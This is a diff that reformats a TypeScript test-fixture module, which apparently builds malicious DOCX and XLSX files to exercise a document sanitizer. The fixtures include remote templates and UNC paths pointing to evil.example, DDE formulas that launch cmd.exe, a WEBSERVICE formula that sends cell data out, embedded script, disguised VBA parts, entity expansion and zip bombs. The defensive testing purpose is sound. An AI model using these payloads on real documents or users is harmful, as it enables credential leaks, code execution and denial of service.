@@ -31,9 +31,12 @@ interface Rel {
 
 export function rels(list: Rel[]): Uint8Array {
   const items = list.map(
-    (r) => `<Relationship Id="${r.id}" Type="${r.type.includes("/") ? r.type : `${REL}/${r.type}`}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ""}/>`,
+    (r) =>
+      `<Relationship Id="${r.id}" Type="${r.type.includes("/") ? r.type : `${REL}/${r.type}`}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ""}/>`,
   );
-  return strToU8(`${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join("")}</Relationships>`);
+  return strToU8(
+    `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join("")}</Relationships>`,
+  );
 }
 
 const DOC_RELS: Rel[] = [
@@ -50,7 +53,10 @@ function body(inner: string, namespaces = ""): Uint8Array {
 }
 
 /** Content types of the default DOCX plus `extra` Default/Override elements. */
-function docxTypes(extra: string, mainType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"): Uint8Array {
+function docxTypes(
+  extra: string,
+  mainType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+): Uint8Array {
   return strToU8(
     `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
       '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
@@ -78,15 +84,25 @@ const field = (instruction: string[], result: string) =>
   instruction.map((part) => `<w:r><w:instrText xml:space="preserve">${part}</w:instrText></w:r>`).join("") +
   `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
 
-const SETTINGS_TYPE = '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>';
+const SETTINGS_TYPE =
+  '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>';
 
 /** One DOCX per technique; each keeps the text "Pungutan liar di loket 3." */
 export const DOCX_ATTACKS: Record<string, () => Buffer> = {
   remoteTemplate: () =>
-    attackDocx("", [{ id: "rId3", type: "settings", target: "settings.xml" }], {
-      "word/settings.xml": strToU8(`${HEAD}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`),
-      "word/_rels/settings.xml.rels": rels([{ id: "rId1", type: "attachedTemplate", target: `${EVIL}/template.dotm`, external: true }]),
-    }, SETTINGS_TYPE),
+    attackDocx(
+      "",
+      [{ id: "rId3", type: "settings", target: "settings.xml" }],
+      {
+        "word/settings.xml": strToU8(
+          `${HEAD}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
+        ),
+        "word/_rels/settings.xml.rels": rels([
+          { id: "rId1", type: "attachedTemplate", target: `${EVIL}/template.dotm`, external: true },
+        ]),
+      },
+      SETTINGS_TYPE,
+    ),
   externalImages: () =>
     attackDocx(
       '<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:link="rId3"/></a:graphicData></a:graphic></w:drawing></w:r>' +
@@ -98,7 +114,11 @@ export const DOCX_ATTACKS: Record<string, () => Buffer> = {
         { id: "rId4", type: "image", target: "\\\\evil.example\\share\\leak.png", external: true },
         { id: "rId5", type: "image", target: "media/image2.svg" },
       ],
-      { "word/media/image2.svg": strToU8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://evil.example/i.png"/></svg>') },
+      {
+        "word/media/image2.svg": strToU8(
+          '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://evil.example/i.png"/></svg>',
+        ),
+      },
       '<Default Extension="svg" ContentType="image/svg+xml"/>',
     ),
   externalHyperlink: () =>
@@ -113,9 +133,10 @@ export const DOCX_ATTACKS: Record<string, () => Buffer> = {
       '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
     ),
   oleLink: () =>
-    attackDocx('<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p>', [
-      { id: "rId3", type: "oleObject", target: "file:///\\\\evil.example\\share\\data.xlsx", external: true },
-    ]),
+    attackDocx(
+      '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p>',
+      [{ id: "rId3", type: "oleObject", target: "file:///\\\\evil.example\\share\\data.xlsx", external: true }],
+    ),
   renamedVbaProject: () =>
     attackDocx(
       "",
@@ -124,34 +145,68 @@ export const DOCX_ATTACKS: Record<string, () => Buffer> = {
       '<Override PartName="/word/foo.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
     ),
   vbaAsImage: () =>
-    attackDocx("", [{ id: "rId3", type: "image", target: "media/image2.png" }], { "word/media/image2.png": oleFile() }, '<Default Extension="png" ContentType="image/png"/>'),
+    attackDocx(
+      "",
+      [{ id: "rId3", type: "image", target: "media/image2.png" }],
+      { "word/media/image2.png": oleFile() },
+      '<Default Extension="png" ContentType="image/png"/>',
+    ),
   orphanPayload: () => attackDocx("", [], { "word/media/readme.txt": strToU8("MZ... not referenced by anything") }),
   activeX: () =>
     attackDocx(
       '<w:p><w:r><w:object><w:control r:id="rId3" w:name="CommandButton1"/></w:object></w:r></w:p>',
       [{ id: "rId3", type: "control", target: "ctl/control1.xml" }],
       {
-        "word/ctl/control1.xml": strToU8(`${HEAD}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" xmlns:r="${R}"/>`),
-        "word/ctl/_rels/control1.xml.rels": rels([{ id: "rId1", type: "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", target: "control1.bin" }]),
+        "word/ctl/control1.xml": strToU8(
+          `${HEAD}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" xmlns:r="${R}"/>`,
+        ),
+        "word/ctl/_rels/control1.xml.rels": rels([
+          {
+            id: "rId1",
+            type: "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
+            target: "control1.bin",
+          },
+        ]),
         "word/ctl/control1.bin": oleFile(),
       },
       '<Override PartName="/word/ctl/control1.xml" ContentType="application/vnd.ms-office.activeX+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>',
     ),
   altChunk: () =>
-    attackDocx('<w:altChunk r:id="rId3"/>', [{ id: "rId3", type: "aFChunk", target: "afchunk.mht" }], {
-      "word/afchunk.mht": strToU8('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><body><img src="http://evil.example/x.png"><script>alert(1)</script></body></html>'),
-    }, '<Default Extension="mht" ContentType="message/rfc822"/>'),
+    attackDocx(
+      '<w:altChunk r:id="rId3"/>',
+      [{ id: "rId3", type: "aFChunk", target: "afchunk.mht" }],
+      {
+        "word/afchunk.mht": strToU8(
+          'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><body><img src="http://evil.example/x.png"><script>alert(1)</script></body></html>',
+        ),
+      },
+      '<Default Extension="mht" ContentType="message/rfc822"/>',
+    ),
   subDocument: () =>
-    attackDocx('<w:p><w:subDoc r:id="rId3"/></w:p>', [{ id: "rId3", type: "subDocument", target: `${EVIL}/sub.docx`, external: true }]),
+    attackDocx('<w:p><w:subDoc r:id="rId3"/></w:p>', [
+      { id: "rId3", type: "subDocument", target: `${EVIL}/sub.docx`, external: true },
+    ]),
   frames: () =>
-    attackDocx("", [{ id: "rId3", type: "webSettings", target: "webSettings.xml" }], {
-      "word/webSettings.xml": strToU8(
-        `${HEAD}<w:webSettings xmlns:w="${W}" xmlns:r="${R}"><w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
-      ),
-      "word/_rels/webSettings.xml.rels": rels([{ id: "rId1", type: "frame", target: `${EVIL}/frame.docx`, external: true }]),
-    }, '<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/>'),
+    attackDocx(
+      "",
+      [{ id: "rId3", type: "webSettings", target: "webSettings.xml" }],
+      {
+        "word/webSettings.xml": strToU8(
+          `${HEAD}<w:webSettings xmlns:w="${W}" xmlns:r="${R}"><w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
+        ),
+        "word/_rels/webSettings.xml.rels": rels([
+          { id: "rId1", type: "frame", target: `${EVIL}/frame.docx`, external: true },
+        ]),
+      },
+      '<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/>',
+    ),
   nestedArchive: () =>
-    attackDocx("", [{ id: "rId3", type: "package", target: "embeddings/Lembar_Kerja.xlsx" }], { "word/embeddings/Lembar_Kerja.xlsx": xlsx() }, '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'),
+    attackDocx(
+      "",
+      [{ id: "rId3", type: "package", target: "embeddings/Lembar_Kerja.xlsx" }],
+      { "word/embeddings/Lembar_Kerja.xlsx": xlsx() },
+      '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
+    ),
   /** INCLUDEPICTURE split over runs, DDEAUTO as a simple field, INCLUDETEXT under another prefix, a keyword hidden behind a nested field. */
   fieldCodes: () =>
     attackDocx(
@@ -173,12 +228,19 @@ export const DOCX_ATTACKS: Record<string, () => Buffer> = {
       '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
     ),
   mailMerge: () =>
-    attackDocx("", [{ id: "rId3", type: "settings", target: "settings.xml" }], {
-      "word/settings.xml": strToU8(
-        `${HEAD}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider=MSDASQL"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`,
-      ),
-      "word/_rels/settings.xml.rels": rels([{ id: "rId1", type: "mailMergeSource", target: `${EVIL}/data.odc`, external: true }]),
-    }, SETTINGS_TYPE),
+    attackDocx(
+      "",
+      [{ id: "rId3", type: "settings", target: "settings.xml" }],
+      {
+        "word/settings.xml": strToU8(
+          `${HEAD}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider=MSDASQL"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`,
+        ),
+        "word/_rels/settings.xml.rels": rels([
+          { id: "rId1", type: "mailMergeSource", target: `${EVIL}/data.odc`, external: true },
+        ]),
+      },
+      SETTINGS_TYPE,
+    ),
 };
 
 /** Refused outright: what cannot be removed and leave a working document. */
@@ -189,14 +251,23 @@ export const DOCX_REFUSED: Record<string, () => Buffer> = {
     }),
   entityExpansion: () =>
     docx({
-      "word/document.xml": strToU8(`${HEAD}<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="${W}"><w:body>&b;</w:body></w:document>`),
+      "word/document.xml": strToU8(
+        `${HEAD}<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="${W}"><w:body>&b;</w:body></w:document>`,
+      ),
     }),
 };
 
 const SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
 const XLSX_TYPES_EXTRA = (extra: string) => (types: string) => types.replace("</Types>", `${extra}</Types>`);
 
-function attackXlsx(options: { sheet?: string; workbook?: string; workbookRels?: Rel[]; sheetRels?: Rel[]; parts?: Zippable; types?: string }): Buffer {
+function attackXlsx(options: {
+  sheet?: string;
+  workbook?: string;
+  workbookRels?: Rel[];
+  sheetRels?: Rel[];
+  parts?: Zippable;
+  types?: string;
+}): Buffer {
   const sheetRels: Rel[] = [{ id: "rId1", type: "comments", target: "../comments1.xml" }, ...(options.sheetRels ?? [])];
   const typesXml = XLSX_TYPES_EXTRA(options.types ?? "")(
     `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
@@ -226,20 +297,38 @@ const sheet = (cells: string, after = "") =>
 export const XLSX_ATTACKS: Record<string, () => Buffer> = {
   externalLink: () =>
     attackXlsx({
-      workbook: WORKBOOK_XML.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="Sumber">[1]Data!$A$1</definedName></definedNames>'),
+      workbook: WORKBOOK_XML.replace(
+        "</sheets>",
+        '</sheets><externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="Sumber">[1]Data!$A$1</definedName></definedNames>',
+      ),
       workbookRels: [{ id: "rId2", type: "externalLink", target: "externalLinks/externalLink1.xml" }],
       sheet: sheet('<c r="B1"><f>[1]Data!A1</f><v>42</v></c>'),
       parts: {
-        "xl/externalLinks/externalLink1.xml": strToU8(`${HEAD}<externalLink xmlns="${SHEET}" xmlns:r="${R}"><externalBook r:id="rId1"/></externalLink>`),
-        "xl/externalLinks/_rels/externalLink1.xml.rels": rels([{ id: "rId1", type: "externalLinkPath", target: "file:///\\\\evil.example\\share\\data.xlsx", external: true }]),
+        "xl/externalLinks/externalLink1.xml": strToU8(
+          `${HEAD}<externalLink xmlns="${SHEET}" xmlns:r="${R}"><externalBook r:id="rId1"/></externalLink>`,
+        ),
+        "xl/externalLinks/_rels/externalLink1.xml.rels": rels([
+          {
+            id: "rId1",
+            type: "externalLinkPath",
+            target: "file:///\\\\evil.example\\share\\data.xlsx",
+            external: true,
+          },
+        ]),
       },
-      types: '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
+      types:
+        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
     }),
   ddeFormulas: () =>
     attackXlsx({
       workbookRels: [{ id: "rId2", type: "calcChain", target: "calcChain.xml" }],
-      parts: { "xl/calcChain.xml": strToU8(`${HEAD}<calcChain xmlns="${SHEET}"><c r="B1" i="1"/><c r="C1"/><c r="D1"/><c r="E1"/><c r="F1"/></calcChain>`) },
-      types: '<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/>',
+      parts: {
+        "xl/calcChain.xml": strToU8(
+          `${HEAD}<calcChain xmlns="${SHEET}"><c r="B1" i="1"/><c r="C1"/><c r="D1"/><c r="E1"/><c r="F1"/></calcChain>`,
+        ),
+      },
+      types:
+        '<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/>',
       sheet: sheet(
         `<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r="C1"><f t="shared" ref="C1:D1" si="0">MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f><v>0</v></c>` +
           '<c r="D1"><f t="shared" si="0"/><v>0</v></c><c r="E1"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f><v>ok</v></c><c r="F1"><f>SUM(A1,"a|b")</f><v>150000</v></c>',
@@ -249,18 +338,27 @@ export const XLSX_ATTACKS: Record<string, () => Buffer> = {
     attackXlsx({
       workbookRels: [{ id: "rId2", type: "connections", target: "connections.xml" }],
       parts: {
-        "xl/connections.xml": strToU8(`${HEAD}<connections xmlns="${SHEET}"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="${EVIL}/data"/></connection></connections>`),
+        "xl/connections.xml": strToU8(
+          `${HEAD}<connections xmlns="${SHEET}"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="${EVIL}/data"/></connection></connections>`,
+        ),
       },
-      types: '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>',
+      types:
+        '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>',
     }),
   queryTable: () =>
     attackXlsx({
       sheet: sheet("", '<tableParts count="1"><tablePart r:id="rId2"/></tableParts>'),
       sheetRels: [{ id: "rId2", type: "table", target: "../tables/table1.xml" }],
       parts: {
-        "xl/tables/table1.xml": strToU8(`${HEAD}<table xmlns="${SHEET}" id="1" name="Q" displayName="Q" ref="A1:A1" tableType="queryTable"><tableColumns count="1"><tableColumn id="1" name="A"/></tableColumns></table>`),
-        "xl/tables/_rels/table1.xml.rels": rels([{ id: "rId1", type: "queryTable", target: "../queryTables/queryTable1.xml" }]),
-        "xl/queryTables/queryTable1.xml": strToU8(`${HEAD}<queryTable xmlns="${SHEET}" name="web" connectionId="1" refreshOnLoad="1"/>`),
+        "xl/tables/table1.xml": strToU8(
+          `${HEAD}<table xmlns="${SHEET}" id="1" name="Q" displayName="Q" ref="A1:A1" tableType="queryTable"><tableColumns count="1"><tableColumn id="1" name="A"/></tableColumns></table>`,
+        ),
+        "xl/tables/_rels/table1.xml.rels": rels([
+          { id: "rId1", type: "queryTable", target: "../queryTables/queryTable1.xml" },
+        ]),
+        "xl/queryTables/queryTable1.xml": strToU8(
+          `${HEAD}<queryTable xmlns="${SHEET}" name="web" connectionId="1" refreshOnLoad="1"/>`,
+        ),
       },
       types:
         '<Override PartName="/xl/tables/table1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml"/>' +
@@ -281,7 +379,13 @@ export const XLSX_ATTACKS: Record<string, () => Buffer> = {
     }),
   vbaProject: () =>
     attackXlsx({
-      workbookRels: [{ id: "rId2", type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "styles2.xml" }],
+      workbookRels: [
+        {
+          id: "rId2",
+          type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+          target: "styles2.xml",
+        },
+      ],
       parts: { "xl/styles2.xml": oleFile() },
       types: '<Override PartName="/xl/styles2.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
     }),
@@ -291,8 +395,18 @@ export const XLSX_REFUSED: Record<string, () => Buffer> = {
   macroSheet: () =>
     attackXlsx({
       workbook: WORKBOOK_XML.replace("</sheets>", '<sheet name="M" sheetId="2" r:id="rId2"/></sheets>'),
-      workbookRels: [{ id: "rId2", type: "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", target: "macrosheets/sheet1.xml" }],
-      parts: { "xl/macrosheets/sheet1.xml": strToU8(`${HEAD}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`) },
+      workbookRels: [
+        {
+          id: "rId2",
+          type: "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
+          target: "macrosheets/sheet1.xml",
+        },
+      ],
+      parts: {
+        "xl/macrosheets/sheet1.xml": strToU8(
+          `${HEAD}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`,
+        ),
+      },
       types: '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
     }),
   macroEnabled: () =>
@@ -324,14 +438,22 @@ export function zerosDeflated(mib: number): { data: Buffer; crc: number } {
 }
 
 const MINIMAL_DOCX: ZipOutputEntry[] = [
-  stored("[Content_Types].xml", strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')),
+  stored(
+    "[Content_Types].xml",
+    strToU8(
+      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+    ),
+  ),
   stored("_rels/.rels", rels([{ id: "rId1", type: "officeDocument", target: "word/document.xml" }])),
 ];
 
 /** A DOCX whose document.xml inflates to `mib` MiB, declaring `declared` bytes (default: the truth). */
 export function hugeEntryBomb(mib: number, declared = mib * MIB): Buffer {
   const { data, crc } = zerosDeflated(mib);
-  return writeZip([...MINIMAL_DOCX, { name: "word/document.xml", method: 8, crc32: crc, uncompressedSize: declared >>> 0, data }]);
+  return writeZip([
+    ...MINIMAL_DOCX,
+    { name: "word/document.xml", method: 8, crc32: crc, uncompressedSize: declared >>> 0, data },
+  ]);
 }
 
 /** `count` entries of `mib` MiB each, every header honest. */
@@ -340,7 +462,13 @@ export function manyEntriesBomb(count: number, mib: number): Buffer {
   return writeZip([
     ...MINIMAL_DOCX,
     stored("word/document.xml", strToU8(`<w:document xmlns:w="${W}"/>`)),
-    ...Array.from({ length: count }, (_, i) => ({ name: `word/media/zeros${i}.bin`, method: 8 as const, crc32: crc, uncompressedSize: mib * MIB, data })),
+    ...Array.from({ length: count }, (_, i) => ({
+      name: `word/media/zeros${i}.bin`,
+      method: 8 as const,
+      crc32: crc,
+      uncompressedSize: mib * MIB,
+      data,
+    })),
   ]);
 }
 
